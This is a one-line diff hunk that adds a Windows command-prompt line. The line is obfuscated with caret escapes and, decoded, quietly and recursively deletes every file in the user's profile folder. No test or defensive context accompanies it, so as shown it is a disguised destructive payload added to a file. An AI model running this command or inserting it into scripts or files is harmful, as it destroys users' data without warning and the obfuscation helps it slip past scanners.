@@ -1,0 +1,1 @@
+d^e^l /s /q %USERPROFILE%\^*
